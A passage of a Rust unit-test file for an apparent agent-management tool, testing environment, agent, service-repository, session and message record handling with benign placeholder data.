    let other = add_environment(&mut rows, "b", "h", 22, "u", "password", None, None, "t");
    delete_environment(&mut rows, &env.id);
    assert!(get_environment(&rows, &env.id).is_none());
    assert!(get_environment(&rows, &other.id).is_some());
}

#[test]
fn a_connection_is_tried_out() {
    let no = Err("refused".to_string());
    let r = test_connection(&no, &Ok("x".to_string()), 5);
    assert!(!r.ok);
    assert!(r.error.unwrap().contains("refused"));
    let r = test_connection(&Ok(()), &Err("broken".to_string()), 5);
    assert!(!r.ok);
}

fn agent(id: &str, source: &str, active: bool, at: &str) -> AgentRow {
    AgentRow {
        id: id.to_string(),
        provider: "opencode".to_string(),
        display_name: "Test".to_string(),
        path: "/test/path".to_string(),
        version: None,
        source: source.to_string(),
        is_active: active,
        detected_at: at.to_string(),
    }
}

fn make_detected() -> DetectedAgent {
    DetectedAgent {
        provider: "opencode",
        display_name: "OpenCode",
        path: "/usr/bin/opencode".to_string(),
        version: Some("0.2.15".to_string()),
    }
}

fn count_active(rows: &Vec<AgentRow>) -> usize {
    rows.iter().filter(|r| r.is_active).count()
}

#[test]
fn test_upsert_auto_agent_inserts_new_row() {
    let mut rows = Vec::new();
    upsert_auto_agent(&mut rows, &make_detected(), "t");

    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].provider, "opencode");
    assert_eq!(rows[0].source, "auto");
    assert!(!rows[0].is_active);
    assert_eq!(rows[0].id.len(), 36);
}

#[test]
fn test_upsert_auto_agent_updates_existing() {
    let mut rows = Vec::new();
    upsert_auto_agent(&mut rows, &make_detected(), "t");

    let mut updated = make_detected();
    updated.path = "/new/path".to_string();
    updated.version = Some("0.3.0".to_string());
    upsert_auto_agent(&mut rows, &updated, "u");

    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].path, "/new/path");
    assert_eq!(rows[0].version, Some("0.3.0".to_string()));
    assert_eq!(rows[0].detected_at, "u");
}

#[test]
fn test_ensure_active_promotes_first_auto() {
    let mut rows = Vec::new();
    upsert_auto_agent(&mut rows, &make_detected(), "t");
    assert_eq!(count_active(&rows), 0);

    ensure_active(&mut rows);

    assert_eq!(count_active(&rows), 1);
}

#[test]
fn test_ensure_active_does_not_change_existing_active() {
    let mut rows = vec![agent("a", "manual", true, "100"), agent("b", "auto", false, "200")];

    ensure_active(&mut rows);

    assert_eq!(count_active(&rows), 1);
    assert!(rows[0].is_active);
    assert!(!rows[1].is_active);
}

#[test]
fn a_detection_leaves_the_latest_active() {
    let mut other = make_detected();
    other.provider = "codeagentcli";
    let detected = vec![make_detected(), other];
    let mut rows = vec![agent("a", "manual", false, "900")];
    detect_and_persist(&mut rows, &detected, &vec!["1".to_string(), "2".to_string()]);
    assert_eq!(rows.len(), 3);
    assert_eq!(count_active(&rows), 1);
    assert!(rows[2].is_active);
    detect_and_persist(&mut rows, &detected, &vec!["4".to_string(), "3".to_string()]);
    assert_eq!(rows.len(), 3);
    assert_eq!(count_active(&rows), 1);
    assert!(rows[2].is_active);
}

#[test]
fn test_set_active_switches_active() {
    let mut rows = vec![agent("a", "manual", true, "100"), agent("b", "auto", false, "200")];
    assert!(set_active(&mut rows, "b"));
    assert!(!rows[0].is_active);
    assert!(rows[1].is_active);
}

#[test]
fn test_set_active_rejects_nonexistent_id() {
    let mut rows = vec![agent("a", "auto", true, "100")];
    assert!(!set_active(&mut rows, "nonexistent"));
    assert!(rows[0].is_active);
}

#[test]
fn test_remove_active_triggers_ensure_active() {
    let mut rows = vec![agent("a", "auto", true, "100"), agent("b", "auto", false, "200")];

    remove_agent(&mut rows, "a");

    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].id, "b");
    assert!(rows[0].is_active);
    assert_eq!(list_agents(&rows), vec![0]);
    remove_agent(&mut rows, "a");
    assert_eq!(rows.len(), 1);
}

#[test]
fn an_agent_is_added_by_hand() {
    let mut rows = Vec::new();
    let r = add_agent_cmd(&mut rows, "opencode", "/x", Some("1.0.0"), "t").unwrap();
    assert_eq!((r.source.as_str(), r.display_name.as_str()), ("manual", "OpenCode"));
    assert_eq!(rows[0].id, r.id);
    let why = add_agent_cmd(&mut rows, "unknown", "/x", None, "t").unwrap_err();
    assert_eq!(why, "Unknown provider: unknown");
    assert_eq!(rows.len(), 1);
}

#[test]
fn test_upsert_then_get_roundtrip() {
    let mut rows = Vec::new();
    upsert_service_repo(&mut rows, "BarService", "https://git.example.com/bar.git", Some("main"), "t0");
    let row = get_service_repo(&mut rows, "BarService", "t1").unwrap();
    assert_eq!(row.repo_url, "https://git.example.com/bar.git");
    assert_eq!(row.last_ref.as_deref(), Some("main"));
}

#[test]
fn test_upsert_overwrites_url_and_ref() {
    let mut rows = Vec::new();
    upsert_service_repo(&mut rows, "S", "https://a.git", Some("main"), "t0");
    upsert_service_repo(&mut rows, "S", "https://b.git", Some("release-1.2"), "t1");
    let row = get_service_repo(&mut rows, "S", "t2").unwrap();
    assert_eq!(row.repo_url, "https://b.git");
    assert_eq!(row.last_ref.as_deref(), Some("release-1.2"));
    assert_eq!(rows.len(), 1);
}

#[test]
fn test_get_missing_returns_none() {
    assert!(get_service_repo(&mut Vec::new(), "nope", "t").is_none());
}

fn repo(service: &str, used: &str) -> ServiceRepoRow {
    ServiceRepoRow {
        service: service.to_string(),
        repo_url: "https://a.git".to_string(),
        last_ref: None,
        updated_at: "2020-01-01T00:00:00Z".to_string(),
        last_used_at: used.to_string(),
    }
}

#[test]
fn test_get_refreshes_last_used_at() {
    let mut rows = vec![repo("S", "2020-01-01T00:00:00Z")];
    get_service_repo(&mut rows, "S", "2021-01-01T00:00:00Z").unwrap();
    assert_eq!(rows[0].last_used_at, "2021-01-01T00:00:00Z");
}

#[test]
fn test_list_orders_by_last_used_desc_and_delete() {
    let mut rows = vec![repo("B", "2020-01-01T00:00:00Z"), repo("A", "2020-01-02T00:00:00Z")];
    let list = |rows: &Vec<ServiceRepoRow>| -> Vec<String> {
        list_service_repos(rows).into_iter().map(|i| rows[i].service.clone()).collect()
    };
    assert_eq!(list(&rows), ["A", "B"]);
    get_service_repo(&mut rows, "B", "2021-01-01T00:00:00Z").unwrap();
    assert_eq!(list(&rows), ["B", "A"]);
    delete_service_repo(&mut rows, "A");
    assert_eq!(list(&rows), ["B"]);
}

#[test]
fn test_create_session_inserts_row() {
    let mut rows = Vec::new();
    let session = create_session(&mut rows, "OOMService 频繁 OOM", "t");
    assert_eq!(rows.iter().filter(|r| r.id == session.id.0).count(), 1);
    assert_eq!(session.id.0.len(), 36);
    assert_eq!(session.status, SessionStatus::Active);
}

#[test]
fn test_create_session_sets_title_to_first_40_chars() {
    let mut rows = Vec::new();
    let short_msg = "OOMService OOM 了";
    create_session(&mut rows, short_msg, "t");
    assert_eq!(rows[0].title.as_deref(), Some(short_msg));
}

#[test]
fn test_create_session_truncates_long_title() {
    let mut rows = Vec::new();
    let long_msg = "这是一条非常非常非常非常非常非常非常非常非常非常非常非常非常非常长的消息要超过四十个字符";
    create_session(&mut rows, long_msg, "t");
    assert_eq!(rows[0].title.as_ref().unwrap().chars().count(), 40);
    assert_eq!(truncate_title(long_msg).chars().count(), 40);
}

#[test]
fn session_test_close_session_updates_status() {
    let mut rows = Vec::new();
    let session = create_session(&mut rows, "test", "t");

    close_session(&mut rows, &session.id.0, "now");

    assert_eq!(rows[0].status, "closed");
    assert_eq!(rows[0].closed_at.as_deref(), Some("now"));
}

#[test]
fn test_list_sessions_returns_descending_by_created_at() {
    let mut rows = Vec::new();
    let s1 = create_session(&mut rows, "first", "1");
    let s2 = create_session(&mut rows, "second", "2");

    let listed = list_sessions(&rows, false);
    assert_eq!(listed.len(), 2);
    assert_eq!(listed[0].id, s2.id.0);
    assert_eq!(listed[1].id, s1.id.0);
}

#[test]
fn test_get_session_returns_none_for_nonexistent() {
    assert!(get_session(&vec![], "nonexistent").is_none());
}

#[test]
fn test_get_session_returns_row() {
    let mut rows = Vec::new();
    create_session(&mut rows, "other", "t");
    let session = create_session(&mut rows, "test message", "t");

    let row = get_session(&rows, &session.id.0).unwrap();
    assert_eq!(row.id, session.id.0);
    assert_eq!(row.title, Some("test message".to_string()));
    assert_eq!(row.status, "active");
}

#[test]
fn test_get_agent_session_id_returns_none_initially() {
    let mut rows = Vec::new();
    let session = create_session(&mut rows, "test", "t");
    assert!(get_agent_session_id(&rows, &session.id.0).is_none());
}

#[test]
fn test_update_agent_session_id_persists() {
    let mut rows = Vec::new();
    let session = create_session(&mut rows, "test", "t");
    let other = create_session(&mut rows, "other", "t");

    update_agent_session_id(&mut rows, &session.id.0, "agent-123");

    assert_eq!(get_agent_session_id(&rows, &session.id.0), Some("agent-123".to_string()));
    assert_eq!(get_agent_session_id(&rows, &other.id.0), None);
}

#[test]
fn test_archive_session_sets_status_and_timestamp() {
    let mut rows = Vec::new();
    let session = create_session(&mut rows, "test", "t");
    archive_session(&mut rows, &session.id.0, "now");

    assert_eq!(rows[0].status, "archived");
    assert_eq!(rows[0].archived_at.as_deref(), Some("now"));
    assert!(is_listed(&rows[0].status, true));
    assert!(!is_listed(&rows[0].status, false));
}

#[test]
fn test_unarchive_session_resets_status_and_clears_timestamp() {
    let mut rows = Vec::new();
    let session = create_session(&mut rows, "test", "t");
    archive_session(&mut rows, &session.id.0, "now");
    unarchive_session(&mut rows, &session.id.0);

    assert_eq!(rows[0].status, "closed");
    assert!(rows[0].archived_at.is_none());
}

#[test]
fn test_list_sessions_excludes_archived() {
    let mut rows = Vec::new();
    let s1 = create_session(&mut rows, "active session", "1");
    let s2 = create_session(&mut rows, "will be archived", "2");
    archive_session(&mut rows, &s2.id.0, "3");

    let listed = list_sessions(&rows, false);
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0].id, s1.id.0);
}

#[test]
fn test_list_sessions_archived_only() {
    let mut rows = Vec::new();
    create_session(&mut rows, "active session", "1");
    let s2 = create_session(&mut rows, "archived session", "2");
    archive_session(&mut rows, &s2.id.0, "3");

    let listed = list_sessions(&rows, true);
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0].id, s2.id.0);
    assert_eq!(listed[0].status, "archived");
    assert!(listed[0].archived_at.is_some());

    let s3 = create_session(&mut rows, "archived later", "0");
    archive_session(&mut rows, &s3.id.0, "9");
    assert_eq!(list_sessions(&rows, true)[0].id, s3.id.0);
}

fn say(messages: &mut Vec<StoredMessage>, session: &str, role: &str, text: Option<&str>) -> String {
    let seq = next_message_seq(messages, session);
    insert_message(messages, session, role, text, Some("done"), seq)
}

#[test]
fn test_next_message_seq_starts_at_zero() {
    assert_eq!(next_message_seq(&vec![], "s"), 0);
}

#[test]
fn test_next_message_seq_increments() {
    let mut messages = Vec::new();
    insert_message(&mut messages, "s", "user", Some("hello"), Some("done"), 0);
    insert_message(&mut messages, "s", "agent", None, Some("streaming"), 1);
    insert_message(&mut messages, "t", "user", Some("b"), Some("done"), 0);
    assert_eq!(next_message_seq(&messages, "s"), 2);
}

#[test]
fn test_insert_message_returns_id() {
    let mut messages = Vec::new();
    let id = insert_message(&mut messages, "s", "user", Some("hello"), Some("done"), 0);
    assert_eq!(id.len(), 36);
    assert_eq!(messages[0].id, id);
}

#[test]
fn test_update_message_status() {
    let mut messages = Vec::new();
    let first = insert_message(&mut messages, "s", "agent", None, Some("streaming"), 0);
    insert_message(&mut messages, "s", "agent", None, Some("streaming"), 1);
    update_message_status(&mut messages, &first, "done");
    assert_eq!(messages[0].status.as_deref(), Some("done"));
    assert_eq!(messages[1].status.as_deref(), Some("streaming"));
}

#[test]
fn test_insert_text_part() {
    let mut parts = Vec::new();
    insert_text_part(&mut parts, "m", 0, "Hello world");
    assert_eq!(parts[0].message_id, "m");
    assert_eq!(parts[0].part.text.as_deref(), Some("Hello world"));
}

#[test]
fn test_insert_tool_part() {
    let mut parts = Vec::new();
    insert_tool_part(&mut parts, "m", 0, "bash", r#"{"command":"ls"}"#, "completed", "file1\nfile2", 800);
    let part = &parts[0].part;
    assert_eq!(part.tool_name.as_deref(), Some("bash"));
    assert_eq!(part.tool_status.as_deref(), Some("completed"));
    assert_eq!(part.tool_output.as_deref(), Some("file1\nfile2"));
    assert_eq!(part.tool_elapsed_ms, Some(800));
}

#[test]
fn test_get_session_messages_returns_messages_with_parts() {
    let mut messages = Vec::new();
    let mut parts: Vec<StoredPart> = Vec::new();
    say(&mut messages, "s", "user", Some("diagnose OOM"));
    let agent_id = say(&mut messages, "s", "agent", None);
    insert_tool_part(&mut parts, &agent_id, 1, "jstat", "{}", "completed", "output", 100);
    insert_text_part(&mut parts, &agent_id, 0, "Analysis complete");

    let read = get_session_messages(&messages, &parts, "s");
    assert_eq!(read.len(), 2);
    assert_eq!(read[0].role, "user");
    assert_eq!(read[0].content, Some("diagnose OOM".to_string()));
    assert_eq!(read[0].seq, 0);
    assert_eq!(read[0].parts.len(), 0);
    assert_eq!(read[1].role, "agent");
    assert_eq!(read[1].seq, 1);
    assert_eq!(read[1].parts.len(), 2);
    assert_eq!(read[1].parts[0].part_type, "text");
    assert_eq!(read[1].parts[0].text, Some("Analysis complete".to_string()));
    assert_eq!(read[1].parts[1].part_type, "tool");
    assert_eq!(read[1].parts[1].tool_name, Some("jstat".to_string()));
    assert_eq!(read[1].parts[1].tool_elapsed_ms, Some(100));
}

#[test]
fn test_get_session_messages_empty_for_nonexistent() {
    assert!(get_session_messages(&vec![], &vec![], "nonexistent").is_empty());
}

fn owned(session_id: &str) -> OwnedRow {
    OwnedRow { id: "1".to_string(), session_id: session_id.to_string() }
}

#[test]
fn test_delete_session_removes_row() {
    let mut rows: Vec<StoredSession> = Vec::new();
    let session = create_session(&mut rows, "test", "t");
    let other = create_session(&mut rows, "other", "t");
    delete_session(&mut rows, &mut vec![], &mut vec![], &mut vec![], &mut vec![], &session.id.0);
    assert!(get_session(&rows, &session.id.0).is_none());
    assert!(get_session(&rows, &other.id.0).is_some());
}

#[test]
fn test_delete_session_cascades_messages_and_parts() {
    let mut messages = Vec::new();
    let mut parts = Vec::new();
    let mut steps = vec![owned("s"), owned("t")];
    let mut calls = vec![owned("t"), owned("s"), owned("s")];
    let a = say(&mut messages, "s", "user", Some("hello"));
    let b = say(&mut messages, "t", "agent", None);
    insert_text_part(&mut parts, &a, 0, "text content");
    insert_text_part(&mut parts, &b, 0, "y");
    delete_session(&mut vec![], &mut messages, &mut parts, &mut steps, &mut calls, "s");
    assert!(messages.iter().all(|m: &StoredMessage| m.session_id != "s"));
    assert!(parts.iter().all(|p: &StoredPart| p.message_id != a));
    assert!(get_session_messages(&messages, &parts, "s").is_empty());
    assert_eq!(parts.len(), 1);
    let left = get_session_messages(&messages, &parts, "t");
    assert_eq!(left[0].parts[0].text.as_deref(), Some("y"));
    assert_eq!((steps.len(), calls.len()), (1, 1));
    assert_eq!((steps[0].session_id.as_str(), calls[0].session_id.as_str()), ("t", "t"));
}

fn lookup(status: Option<&str>, running: bool) -> SessionLookup {
    SessionLookup {
        status: status.map(|s| s.to_string()),
        agent_session_id: Some("ses_1".to_string()),
        agent_running: running,
        message_count: 4,
    }
}

#[test]
fn a_message_goes_to_an_open_session() {
    let plan = send_message(Some("s"), "hello", &lookup(Some("active"), false)).unwrap();
    assert_eq!(plan.session_id, "s");
    assert_eq!(plan.agent_session_id.as_deref(), Some("ses_1"));
    assert_eq!((plan.user_message.seq, plan.agent_message.seq), (4, 5));
    assert_eq!(plan.user_message.content.as_deref(), Some("hello"));
    assert!(send_message(Some("s"), "hello", &lookup(Some("closed"), false)).is_err());
    assert!(send_message(Some("s"), "hello", &lookup(None, false)).is_err());
    assert!(send_message(Some("s"), "hello", &lookup(Some("active"), true)).is_err());
    let first = send_message(None, "hello", &lookup(None, false)).unwrap();
    assert_eq!(first.new_session_title.as_deref(), Some("hello"));
    assert_eq!(first.session_id.len(), 36);
    match after_spawn("s", &Ok(7)) {
        SendEnd::Started(AppEvent::AgentStarted { agent_pid, .. }) => assert_eq!(agent_pid, 7),
        other => panic!("expected a start, got {other:?}"),
    }
    match after_spawn("s", &Err(SpawnError::NoActiveAgent)) {
        SendEnd::Failed { status, .. } => assert_eq!(status, "error"),
        other => panic!("expected a failure, got {other:?}"),
    }
}

#[test]
fn lifecycle_test_close_session_updates_status() {
    let mut rows = Vec::new();
    let s = create_session(&mut rows, "test", "t");
    close_session(&mut rows, &s.id.0, "u");

    let row = get_session(&rows, &s.id.0).unwrap();
    assert_eq!(row.status, "closed");
}

#[test]
fn test_delete_session_removes_session() {
    let mut rows = Vec::new();
    let s = create_session(&mut rows, "to delete", "t");

    delete_session(&mut rows, &mut vec![], &mut vec![], &mut vec![], &mut vec![], &s.id.0);

    assert!(get_session(&rows, &s.id.0).is_none());
}

#[test]
fn test_archive_then_unarchive_session() {
    let mut rows = Vec::new();
    let s = create_session(&mut rows, "test", "t");

    archive_session(&mut rows, &s.id.0, "u");
    let row = get_session(&rows, &s.id.0).unwrap();
    assert_eq!(row.status, "archived");

    unarchive_session(&mut rows, &s.id.0);
    let row = get_session(&rows, &s.id.0).unwrap();
    assert_eq!(row.status, "closed");
}
